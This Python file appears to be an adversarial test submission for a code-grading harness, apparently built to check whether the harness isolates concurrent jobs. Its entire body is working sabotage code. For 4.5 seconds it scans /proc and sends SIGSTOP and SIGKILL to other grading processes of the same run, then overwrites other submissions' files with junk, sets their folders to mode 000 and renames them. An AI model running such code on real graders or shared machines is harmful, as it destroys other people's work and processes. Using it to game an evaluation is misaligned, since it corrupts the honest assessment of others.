"""Spoil the classmates graded beside me (--jobs 2): for 4.5 s, SIGSTOP then SIGKILL every
grading process of this regrade (child.py under the same /tmp/learn-check-<pid>- folder) that is
not me or my ancestor, and write junk into, chmod 000 and rename every other grade's folder next
to mine (out/, job/ and own/ siblings). Only processes and folders of this regrade are touched.

The defence held if: every honest learner is graded and passes, the regrade ends normally, and
my answer fails."""
import os
import signal
import time

DOES_THE_WORK = False

me = os.getpid()
ancestors = set()
p = me
while p > 1:
    ancestors.add(p)
    try:
        p = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
ancestors.add(p)


def cmd(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        return b""


mine = cmd(os.getppid())
prefix = None
for part in mine.split(b"\0"):
    if b"/learn-check-" in part:
        s = part.split(b"/learn-check-")[1].split(b"-")[0]
        prefix = b"/learn-check-" + s + b"-"
        break
here = os.getcwd()
grade_root = os.path.dirname(os.path.dirname(here))
mine_name = os.path.basename(here)
T0 = time.time()
while time.time() - T0 < 4.5:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in ancestors:
            continue
        c = cmd(pid)
        same = (prefix is not None and prefix in c) or (prefix is None and b"child.py" in c and os.getuid() != 0)
        if same:
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(pid), sig)
                except OSError:
                    pass
    for sub in ("out", "job", "own"):
        d = os.path.join(grade_root, sub)
        try:
            names = os.listdir(d)
        except OSError:
            continue
        for n in names:
            if n == mine_name or n.startswith("lbatk"):
                continue
            q = os.path.join(d, n)
            try:
                for f in os.listdir(q):
                    with open(os.path.join(q, f), "wb") as fh:
                        fh.write(b"junk")
            except OSError:
                pass
            try:
                os.chmod(q, 0)
            except OSError:
                pass
            try:
                os.rename(q, os.path.join(d, "lbatk-" + n))
            except OSError:
                pass
    time.sleep(0.02)


def forward(w, x):
    return w + x
